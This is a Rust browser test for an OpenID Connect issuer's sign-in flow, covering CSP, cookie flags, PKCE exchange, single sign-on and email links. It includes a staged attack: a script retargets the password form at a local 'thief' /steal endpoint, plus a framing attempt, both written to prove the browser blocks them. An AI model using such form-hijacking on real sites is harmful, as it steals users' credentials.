//! The issuer's browser sign-in in a real browser: headless Chromium ([`tests::browser::Browser`])
//! against the real issuer binary (`issuer serve` on SQLite in a temporary folder), with a relying
//! party's redirect URI served by a small axum server on another port of 127.0.0.1.
//!
//! In order, in one browser: the login page framed by another origin (refused by
//! `frame-ancestors 'none'`); the login page itself (labels, autocomplete, its inline style allowed
//! by its hash, the Content-Security-Policy as Chromium received it, the CSRF cookie, nothing in
//! `document.cookie`); its password form pointed at a third origin by a script (refused by
//! `form-action`: no request leaves, the console says why); the password sign-in, back at the
//! callback with `code`, `state` and `iss`, and the code exchanged (Basic, PKCE) for an ID token;
//! the cookies as Chromium holds them (HttpOnly, Secure, SameSite, Path), still invisible to the
//! page's scripts; single sign-on (a second authorization goes straight back with a code). Then,
//! in a fresh browser: the sign-in link by email, from the issuer's development outbox, opened
//! and continued, back at the callback with a code that is exchanged too.
//!
//! Needs the issuer binary (`cargo build -p issuer --bin issuer`) and Debian's chromium and
//! chromium-driver (`cargo xtask test` provides both).

use axum::Router;
use axum::extract::Query;
use axum::response::Html;
use axum::routing::{get, post};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
use tests::browser::{Browser, ConsoleEntry};
use tests::issuer::Issuer;
use tests::signin::{CSRF_COOKIE, PKCE_CHALLENGE, PKCE_VERIFIER, SESSION_COOKIE, add_user, described};

/// The user who signs in.
const EMAIL: &str = "erin@example.com";
/// Her password.
const PASSWORD: &str = "correct horse battery staple";
/// The relying party's client id.
const CLIENT_ID: &str = "browser-rp";
/// What a navigation (a form, its redirects, the callback page) may take.
const NAVIGATION: Duration = Duration::from_secs(10);
/// How long the issuer may take to write a sign-in link to its outbox (sent in the background).
const MAIL: Duration = Duration::from_secs(5);

/// A script that records the page's `securitypolicyviolation` events in `window.violations`.
const RECORD_VIOLATIONS: &str = "window.violations = []; document.addEventListener('securitypolicyviolation', \
     event => window.violations.push({ effectiveDirective: event.effectiveDirective, \
     blockedURI: event.blockedURI, disposition: event.disposition }))";

/// `text` safe inside HTML text and attribute values.
fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;").replace('\'', "&#39;")
}

/// Serves `router` on a free port of 127.0.0.1 until the test's runtime ends; its base URL
/// (`http://127.0.0.1:<port>`).
async fn serve(router: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind a port of 127.0.0.1");
    let addr = listener.local_addr().expect("the bound address");
    tokio::spawn(async move {
        let _ = axum::serve(listener, router).await;
    });
    format!("http://{addr}")
}

/// The relying party's pages: `/callback`, its redirect URI, showing the code in its title
/// (`callback <code>`); `/frame?src=URL`, a page that frames `URL`.
fn relying_party() -> Router {
    Router::new()
        .route(
            "/callback",
            get(|Query(params): Query<HashMap<String, String>>| async move {
                let code = params.get("code").map_or("", String::as_str);
                Html(format!(
                    "<!doctype html><html><head><title>callback {}</title></head><body><p id=code>{}</p></body></html>",
                    escape(code),
                    escape(code)
                ))
            }),
        )
        .route(
            "/frame",
            get(|Query(params): Query<HashMap<String, String>>| async move {
                let src = params.get("src").map_or("", String::as_str);
                Html(format!(
                    "<!doctype html><html><head><title>framing</title></head><body>\
                     <iframe id=framed src=\"{}\" width=600 height=400></iframe></body></html>",
                    escape(src)
                ))
            }),
        )
}

/// A third origin, neither the issuer nor the relying party, that records every request it gets
/// (`METHOD path`): where a tampered form would send the password.
async fn thief() -> (String, Arc<Mutex<Vec<String>>>) {
    let seen: Arc<Mutex<Vec<String>>> = Arc::default();
    let recorded = Arc::clone(&seen);
    let record = move |request: axum::extract::Request| {
        let recorded = Arc::clone(&recorded);
        async move {
            recorded.lock().expect("the thief's requests").push(format!("{} {}", request.method(), request.uri()));
            Html("stolen")
        }
    };
    let base = serve(Router::new().route("/steal", post(record.clone()).get(record))).await;
    (base, seen)
}

/// The authorization URL at `issuer` for [`CLIENT_ID`] back to `redirect_uri`: `scope=openid
/// email`, PKCE S256 with [`PKCE_CHALLENGE`], `state`, `nonce`, and `prompt` when given.
fn authorize_url(issuer: &str, redirect_uri: &str, state: &str, nonce: &str, prompt: Option<&str>) -> String {
    let mut params = vec![
        ("response_type", "code"),
        ("client_id", CLIENT_ID),
        ("redirect_uri", redirect_uri),
        ("scope", "openid email"),
        ("state", state),
        ("nonce", nonce),
        ("code_challenge", PKCE_CHALLENGE),
        ("code_challenge_method", "S256"),
    ];
    params.extend(prompt.map(|prompt| ("prompt", prompt)));
    url::Url::parse_with_params(&format!("{issuer}/authorize"), params).expect("the authorization URL").into()
}

/// The query parameters of `url`.
fn query(url: &str) -> HashMap<String, String> {
    let parsed = url::Url::parse(url).unwrap_or_else(|error| panic!("{url}: {error}"));
    parsed.query_pairs().into_owned().collect()
}

/// Waits until `browser` is at `callback` and checks the redirect: a code, no error, `state`
/// and `iss` (RFC 9207); the code, also shown in the callback page's title.
async fn code_at_callback(browser: &mut Browser, callback: &str, state: &str, iss: &str, what: &str) -> String {
    let prefix = format!("{callback}?");
    let url = browser.wait_for_url(NAVIGATION, |url| url.starts_with(&prefix)).await;
    let params = query(&url);
    assert!(!params.contains_key("error"), "{what}: an error: {url}");
    assert_eq!(params.get("state").map(String::as_str), Some(state), "{what}: state: {url}");
    assert_eq!(params.get("iss").map(String::as_str), Some(iss), "{what}: iss: {url}");
    let code = params.get("code").filter(|code| !code.is_empty()).unwrap_or_else(|| panic!("{what}: no code: {url}"));
    assert_eq!(browser.title().await, format!("callback {code}"), "{what}: the callback page");
    code.clone()
}

/// `POST /oauth/token` for `code` with the client's Basic credentials and [`PKCE_VERIFIER`];
/// asserts 200 with an access token and an ID token for [`EMAIL`], this client, the issuer and
/// `nonce`; the ID token's claims.
async fn exchange(issuer: &Issuer, secret: &str, code: &str, redirect_uri: &str, nonce: &str, what: &str) -> Value {
    let encode = |text: &str| url::form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let basic = format!("Basic {}", STANDARD.encode(format!("{}:{}", encode(CLIENT_ID), encode(secret))));
    let fields = [
        ("grant_type", "authorization_code"),
        ("code", code),
        ("redirect_uri", redirect_uri),
        ("code_verifier", PKCE_VERIFIER),
    ];
    let body = url::form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
    let headers = [("authorization", basic.as_str()), ("content-type", "application/x-www-form-urlencoded")];
    let answer = issuer.client.send("POST", "/oauth/token", &headers, body.into_bytes()).await;
    assert_eq!(answer.status, 200, "{what}: the code exchange: {}", described(&answer));
    let tokens = answer.json();
    assert!(tokens["access_token"].as_str().is_some_and(|token| !token.is_empty()), "{what}: {tokens}");
    let id_token = tokens["id_token"].as_str().unwrap_or_else(|| panic!("{what}: no id_token: {tokens}"));
    let payload = id_token.split('.').nth(1).unwrap_or_else(|| panic!("{what}: not a JWT: {id_token}"));
    let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).expect("the ID token's payload"))
        .expect("the ID token's claims as JSON");
    assert_eq!(claims["iss"], issuer.identifier(), "{what}: {claims}");
    let audience = &claims["aud"];
    assert!(
        audience == CLIENT_ID || audience.as_array().is_some_and(|list| list.iter().any(|aud| aud == CLIENT_ID)),
        "{what}: aud: {claims}"
    );
    assert_eq!(claims["nonce"], nonce, "{what}: {claims}");
    assert_eq!(claims["email"], EMAIL, "{what}: {claims}");
    claims
}

/// The console lines after the first `seen` that report a Content-Security-Policy violation.
fn violations(console: &[ConsoleEntry], seen: usize) -> Vec<ConsoleEntry> {
    console[seen..].iter().filter(|entry| entry.message.contains("Content Security Policy")).cloned().collect()
}

/// The newest message in `outbox` once there are at least `count`, waiting (at most [`MAIL`])
/// for the issuer's background send: the sign-in link in it (the word containing
/// `/login/email?token=`), and the message.
async fn newest_link(outbox: &Path, count: usize) -> (String, String) {
    let deadline = Instant::now() + MAIL;
    loop {
        let mut messages: Vec<PathBuf> = std::fs::read_dir(outbox)
            .map(|entries| {
                entries
                    .filter_map(Result::ok)
                    .map(|entry| entry.path())
                    .filter(|path| path.extension().is_some_and(|extension| extension == "eml"))
                    .collect()
            })
            .unwrap_or_default();
        if messages.len() >= count {
            messages.sort();
            let newest = messages.last().expect("a message");
            let text = std::fs::read_to_string(newest).unwrap_or_else(|error| panic!("{}: {error}", newest.display()));
            let link = text.split_whitespace().find(|word| word.contains("/login/email?token="));
            let link = link.unwrap_or_else(|| panic!("no sign-in link in {}:\n{text}", newest.display()));
            return (link.to_owned(), text);
        }
        assert!(Instant::now() < deadline, "no message #{count} in {} within {MAIL:?}", outbox.display());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Seconds since 1970.
fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).expect("after 1970").as_secs()
}

/// The whole browser sign-in in Chromium: CSP, cookies, password, single sign-on, sign-in link.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signing_in_at_the_issuer_in_chromium() {
    let started = Instant::now();
    let mut step = Instant::now();
    let mut lap = |what: &str| {
        eprintln!("{what}: {:.0} ms", step.elapsed().as_secs_f64() * 1000.0);
        step = Instant::now();
    };
    let dir = tempfile::tempdir().expect("a temp folder");
    let rp = serve(relying_party()).await;
    let callback = format!("{rp}/callback");
    let (thief, stolen) = thief().await;
    let mut issuer = Issuer::new("issuer", dir.path(), None);
    issuer.serve().await;
    let iss = issuer.identifier().to_owned();
    add_user(&issuer, EMAIL, PASSWORD, "reader");
    let secret = issuer.add_client(CLIENT_ID, &["--redirect-uri", &callback]).await;
    let first_dir = dir.path().join("browser-1");
    std::fs::create_dir(&first_dir).expect("the first browser's folder");
    let mut browser = Browser::start(&first_dir).await;
    lap("issuer up, user and client added, Chromium started");

    // 1. The login page, in a browser that has never been to the issuer.
    let state = "state-password";
    let nonce = "nonce-password";
    let login_url = authorize_url(&iss, &callback, state, nonce, None);
    let seen = browser.console().await.len();
    browser.goto(&login_url).await;
    assert_eq!(browser.url().await, login_url, "no redirect: the login page");
    assert_eq!(browser.title().await, "Sign in · Portcullis");
    for (field, label, kind, autocomplete) in [
        ("email", "Email", "email", "username"),
        ("password", "Password", "password", "current-password"),
        ("link-email", "Or get a sign-in link by email", "email", "email"),
    ] {
        assert_eq!(browser.text(&format!("label[for='{field}']")).await, label, "the label of #{field}");
        let input = browser.find(&format!("#{field}")).await;
        assert_eq!(input.attr("type").await.expect("type").as_deref(), Some(kind), "#{field}");
        assert_eq!(input.attr("autocomplete").await.expect("autocomplete").as_deref(), Some(autocomplete), "#{field}");
        assert!(input.attr("required").await.expect("required").is_some(), "#{field} is required");
    }
    assert!(browser.exists("form[action='/login'] input[type=hidden][name=csrf]").await);
    assert!(browser.exists("form[action='/login'] input[type=hidden][name=request]").await);
    assert_eq!(browser.text("form[action='/login/email'] button[type=submit]").await, "Email me a sign-in link");
    // The inline style applies (its hash is in style-src), and nothing on the page was refused.
    let background = browser.execute("return getComputedStyle(document.body).backgroundColor", Vec::new()).await;
    assert_eq!(background, "rgb(244, 245, 247)", "the page's inline style (#f4f5f7) is applied");
    let refused = violations(&browser.console().await, seen);
    assert!(refused.is_empty(), "the login page broke its own policy: {refused:#?}");
    // The Content-Security-Policy and the cookie as Chromium received them.
    let responses = browser.responses().await;
    let page = responses
        .iter()
        .rfind(|response| response.url == login_url)
        .unwrap_or_else(|| panic!("no response for {login_url}: {responses:#?}"));
    assert_eq!(page.status, 200, "{page:?}");
    let csp = page.header("content-security-policy").unwrap_or_else(|| panic!("no CSP: {page:?}"));
    eprintln!("Content-Security-Policy as Chromium received it: {csp}");
    let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
    assert_eq!(directives.len(), 5, "{csp}");
    assert_eq!(directives[0], "default-src 'none'", "{csp}");
    assert!(directives[1].starts_with("style-src 'sha256-") && directives[1].ends_with('\''), "{csp}");
    assert_eq!(directives[2], format!("form-action 'self' {rp}"), "{csp}");
    assert_eq!(directives[3], "frame-ancestors 'none'", "{csp}");
    assert_eq!(directives[4], "base-uri 'none'", "{csp}");
    let set_cookie = page.header("set-cookie").unwrap_or_else(|| panic!("no Set-Cookie: {page:?}"));
    eprintln!("the login page's Set-Cookie as Chromium received it: {}", redacted(set_cookie));
    assert!(page.blocked_cookies.is_empty(), "{page:?}");
    let csrf = browser.cookie(CSRF_COOKIE).await;
    let csrf_field = browser.find("form[action='/login'] input[name=csrf]").await.attr("value").await.expect("value");
    assert_eq!(csrf_field.as_deref(), Some(csrf.value.as_str()), "the form's csrf is the cookie's");
    assert_eq!(browser.execute("return document.cookie", Vec::new()).await, "", "no cookie readable by scripts");
    lap("login page");

    // 2. The login page framed by another origin (the relying party's): refused.
    let framed = authorize_url(&iss, &callback, "framed", "n-framed", None);
    let framing = url::Url::parse_with_params(&format!("{rp}/frame"), [("src", framed.as_str())]).expect("frame URL");
    browser.goto(framing.as_str()).await;
    assert_eq!(browser.title().await, "framing");
    let refusal = browser
        .wait_for_console(NAVIGATION, |entry| {
            entry.message.contains("frame-ancestors 'none'") && entry.message.contains(&format!("'{iss}/"))
        })
        .await;
    eprintln!("the login page in a frame of {rp}: {refusal:#?}");
    assert_eq!(refusal.level, "SEVERE", "{refusal:?}");
    // Nothing of the login page in the frame.
    browser.client().enter_frame(0).await.expect("enter the frame");
    let frame_url = browser.execute("return document.location.href", Vec::new()).await;
    let in_frame = browser.exists("#email").await;
    browser.client().enter_parent_frame().await.expect("leave the frame");
    eprintln!("the frame shows {frame_url}");
    assert!(!in_frame, "the login form rendered inside the frame ({frame_url})");
    lap("framing refused");

    // 3. The password form pointed at a third origin by a script: form-action refuses it. No
    //    request leaves, the page stays, and the console and the page's event say why.
    browser.goto(&login_url).await;
    browser.execute(RECORD_VIOLATIONS, Vec::new()).await;
    browser.fill("#email", EMAIL).await;
    browser.fill("#password", "a password for the thief").await;
    let steal = format!("{thief}/steal");
    browser
        .execute(
            "const form = document.querySelector('form[action=\"/login\"]'); form.action = arguments[0]; \
             form.requestSubmit();",
            vec![json!(steal)],
        )
        .await;
    let violation = browser.wait_for_console(NAVIGATION, |entry| entry.message.contains(&format!("'{steal}'"))).await;
    eprintln!("the password form pointed at {steal}: {violation:#?}");
    assert_eq!(violation.level, "SEVERE", "{violation:?}");
    assert_eq!(violation.source.as_deref(), Some("security"), "{violation:?}");
    assert!(violation.message.contains(&format!("\"form-action 'self' {rp}\"")), "{violation:?}");
    let events = browser.execute("return window.violations", Vec::new()).await;
    eprintln!("the page's securitypolicyviolation events: {events}");
    assert_eq!(events, json!([{ "effectiveDirective": "form-action", "blockedURI": steal, "disposition": "enforce" }]));
    assert_eq!(browser.url().await, login_url, "the browser stays on the login page");
    assert_eq!(browser.title().await, "Sign in · Portcullis");
    let stolen_now = stolen.lock().expect("the thief's requests").clone();
    assert!(stolen_now.is_empty(), "the third origin received {stolen_now:?}");
    lap("form-action enforced");

    // 4. The password sign-in, back at the callback; the code exchanged for real.
    browser.goto(&login_url).await;
    browser.fill("#email", EMAIL).await;
    browser.fill("#password", PASSWORD).await;
    browser.click("form[action='/login'] button[type=submit]").await;
    let code = code_at_callback(&mut browser, &callback, state, &iss, "the password sign-in").await;
    // Not asserted: cookies ignore ports, so the relying party on another port of 127.0.0.1 is
    // sent the issuer's cookies too (in production the two are different hosts).
    let at_callback: Vec<String> = browser.cookies().await.into_iter().map(|cookie| cookie.name).collect();
    eprintln!("the cookies Chromium would send to {callback}: {at_callback:?}");
    let responses = browser.responses().await;
    let login = responses
        .iter()
        .rfind(|response| response.url == format!("{iss}/login"))
        .unwrap_or_else(|| panic!("no response for POST /login: {responses:#?}"));
    assert_eq!(login.status, 303, "{login:?}");
    assert!(login.header("location").is_some_and(|location| location.starts_with(&format!("{callback}?"))));
    let set_session = login.header("set-cookie").unwrap_or_else(|| panic!("no Set-Cookie: {login:?}"));
    eprintln!("POST /login's Set-Cookie as Chromium received it: {}", redacted(set_session));
    assert!(set_session.contains(&format!("{SESSION_COOKIE}=")), "{login:?}");
    assert!(login.blocked_cookies.is_empty(), "{login:?}");
    let claims = exchange(&issuer, &secret, &code, &callback, nonce, "the password sign-in").await;
    lap("password sign-in and exchange");

    // 5. The cookies as Chromium holds them, on a page of the issuer (the login page again, by
    //    prompt=login, which shows it despite the session), and what its scripts can read.
    let relogin = authorize_url(&iss, &callback, "state-cookies", "nonce-cookies", Some("login"));
    browser.goto(&relogin).await;
    assert_eq!(browser.url().await, relogin);
    assert_eq!(browser.title().await, "Sign in · Portcullis");
    let mut cookies = browser.cookies().await;
    cookies.sort_by(|one, other| one.name.cmp(&other.name));
    for cookie in &cookies {
        eprintln!(
            "Chromium's cookie {}: httpOnly {}, secure {}, sameSite {:?}, path {:?}, domain {:?}, expiry {:?} \
             (now {})",
            cookie.name,
            cookie.http_only,
            cookie.secure,
            cookie.same_site,
            cookie.path,
            cookie.domain,
            cookie.expiry,
            now()
        );
    }
    let names: Vec<&str> = cookies.iter().map(|cookie| cookie.name.as_str()).collect();
    assert_eq!(names, [CSRF_COOKIE, SESSION_COOKIE], "{cookies:#?}");
    let session = browser.cookie(SESSION_COOKIE).await;
    assert!(session.http_only, "{session:?}");
    assert!(session.secure, "{session:?}");
    assert_eq!(session.same_site.as_deref(), Some("Lax"), "{session:?}");
    assert_eq!(session.path.as_deref(), Some("/"), "{session:?}");
    assert_eq!(session.domain.as_deref(), Some("127.0.0.1"), "host-only: {session:?}");
    assert!(session.expiry.is_some_and(|expiry| expiry > now()), "Max-Age: a persistent cookie: {session:?}");
    let csrf_now = browser.cookie(CSRF_COOKIE).await;
    assert!(csrf_now.http_only, "{csrf_now:?}");
    assert!(csrf_now.secure, "{csrf_now:?}");
    assert_eq!(csrf_now.same_site.as_deref(), Some("Strict"), "{csrf_now:?}");
    assert_eq!(csrf_now.path.as_deref(), Some("/"), "{csrf_now:?}");
    assert_eq!(csrf_now.domain.as_deref(), Some("127.0.0.1"), "host-only: {csrf_now:?}");
    assert_eq!(csrf_now.expiry, None, "a session cookie: {csrf_now:?}");
    assert_eq!(csrf_now.value, csrf.value, "the same CSRF token all along");
    assert_eq!(browser.execute("return document.cookie", Vec::new()).await, "", "no cookie readable by scripts");
    lap("cookies");

    // 6. Single sign-on: a new authorization goes straight back with a code, no page on the way.
    let sso_state = "state-sso";
    let sso_nonce = "nonce-sso";
    let sso_url = authorize_url(&iss, &callback, sso_state, sso_nonce, None);
    browser.goto(&sso_url).await;
    let sso_code = code_at_callback(&mut browser, &callback, sso_state, &iss, "single sign-on").await;
    assert_ne!(sso_code, code, "a new code");
    let responses = browser.responses().await;
    let hops: Vec<(u16, &str)> = responses
        .iter()
        .filter(|response| response.url == sso_url)
        .map(|response| (response.status, response.header("location").unwrap_or_default()))
        .collect();
    assert_eq!(hops.len(), 1, "one answer to the authorization: {hops:?}");
    assert_eq!(hops[0].0, 303, "a redirect, not a page: {hops:?}");
    assert!(hops[0].1.starts_with(&format!("{callback}?")), "{hops:?}");
    let sso_claims = exchange(&issuer, &secret, &sso_code, &callback, sso_nonce, "single sign-on").await;
    assert_eq!(sso_claims["sub"], claims["sub"], "the same user");
    assert_eq!(sso_claims["auth_time"], claims["auth_time"], "no new authentication");
    browser.close().await;
    lap("single sign-on");

    // 7. A sign-in link by email, in a fresh browser (no session).
    let second_dir = dir.path().join("browser-2");
    std::fs::create_dir(&second_dir).expect("the second browser's folder");
    let mut browser = Browser::start(&second_dir).await;
    lap("a second Chromium started");
    let link_state = "state-link";
    let link_nonce = "nonce-link";
    let link_login = authorize_url(&iss, &callback, link_state, link_nonce, None);
    browser.goto(&link_login).await;
    assert_eq!(browser.url().await, link_login, "no session: the login page");
    assert_eq!(browser.title().await, "Sign in · Portcullis");
    browser.fill("#link-email", EMAIL).await;
    browser.click("form[action='/login/email'] button[type=submit]").await;
    browser.wait_for_url(NAVIGATION, |url| url == format!("{iss}/login/email")).await;
    assert_eq!(browser.title().await, "Check your email · Portcullis");
    assert_eq!(browser.text("h1").await, "Check your email");
    let outbox = dir.path().join("issuer").join("outbox");
    let (link, message) = newest_link(&outbox, 1).await;
    eprintln!("the sign-in link: {}", link.split("token=").next().unwrap_or_default());
    assert!(link.starts_with(&format!("{iss}/login/email?token=")), "{link}");
    assert!(message.contains(&format!("To: {EMAIL}")), "{message}");
    lap("a sign-in link asked for, and read from the outbox");
    browser.goto(&link).await;
    assert_eq!(browser.title().await, "Continue signing in · Portcullis");
    assert_eq!(browser.text("form[action='/login/email/continue'] button[type=submit]").await, "Continue");
    browser.click("form[action='/login/email/continue'] button[type=submit]").await;
    let link_code = code_at_callback(&mut browser, &callback, link_state, &iss, "the sign-in link").await;
    let link_claims = exchange(&issuer, &secret, &link_code, &callback, link_nonce, "the sign-in link").await;
    assert_eq!(link_claims["sub"], claims["sub"], "the same user");
    // The link works once; the browser has a session now.
    browser.goto(&link).await;
    assert_eq!(browser.title().await, "Sign-in failed · Portcullis", "the link spent");
    assert!(browser.cookie(SESSION_COOKIE).await.http_only, "a session started");
    browser.close().await;
    lap("the sign-in link opened and continued, the code exchanged");

    issuer.stop();
    eprintln!("browser sign-in in {:.1} s", started.elapsed().as_secs_f64());
}

/// `Set-Cookie` lines (one a line, as Chromium joins them) with their values replaced by `…`.
fn redacted(lines: &str) -> String {
    let redact = |line: &str| match line.split_once('=') {
        Some((name, rest)) => format!("{name}=…{}", rest.find(';').map_or("", |at| &rest[at..])),
        None => line.to_owned(),
    };
    lines.lines().map(redact).collect::<Vec<_>>().join(" | ")
}
